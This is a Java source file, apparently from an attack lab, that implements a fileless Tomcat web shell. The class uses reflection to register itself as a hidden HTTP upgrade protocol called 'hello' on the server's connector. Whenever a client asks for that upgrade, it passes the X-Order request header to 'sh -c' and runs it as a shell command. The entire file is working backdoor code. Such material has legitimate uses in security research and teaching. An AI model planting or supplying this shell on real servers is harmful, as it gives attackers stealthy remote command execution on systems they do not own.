import java.util.Map;
import org.apache.catalina.Engine;
import org.apache.catalina.core.StandardContext;
import org.apache.coyote.Adapter;
import org.apache.coyote.Processor;
import org.apache.coyote.Request;
import org.apache.coyote.UpgradeProtocol;
import org.apache.coyote.http11.upgrade.InternalHttpUpgradeHandler;
import org.apache.tomcat.util.net.SocketWrapperBase;
import whorl.lab.attack.TomcatContext;

/** Registers itself as an upgrade protocol named hello. */
public class Shell implements UpgradeProtocol {
  @SuppressWarnings("unchecked")
  public Shell() throws Exception {
    StandardContext context = TomcatContext.current();
    Engine engine = (Engine) context.getParent().getParent();
    Object protocol = engine.getService().findConnectors()[0].getProtocolHandler();
    ((Map<String, Object>) TomcatContext.field(protocol, "httpUpgradeProtocols"))
        .put("hello", this);
  }

  @Override
  public boolean accept(Request request) {
    try {
      run(request.getHeader("X-Order"));
    } catch (java.io.IOException e) {
      e.printStackTrace();
    }
    return false;
  }

  @Override
  public String getHttpUpgradeName(boolean secure) {
    return "hello";
  }

  @Override
  public byte[] getAlpnIdentifier() {
    return null;
  }

  @Override
  public String getAlpnName() {
    return null;
  }

  @Override
  public Processor getProcessor(SocketWrapperBase<?> socket, Adapter adapter) {
    return null;
  }

  @Override
  public InternalHttpUpgradeHandler getInternalUpgradeHandler(
      SocketWrapperBase<?> socket, Adapter adapter, Request request) {
    return null;
  }

  private static String run(String order) throws java.io.IOException {
    return new String(
        new ProcessBuilder("sh", "-c", order).start().getInputStream().readAllBytes());
  }
}
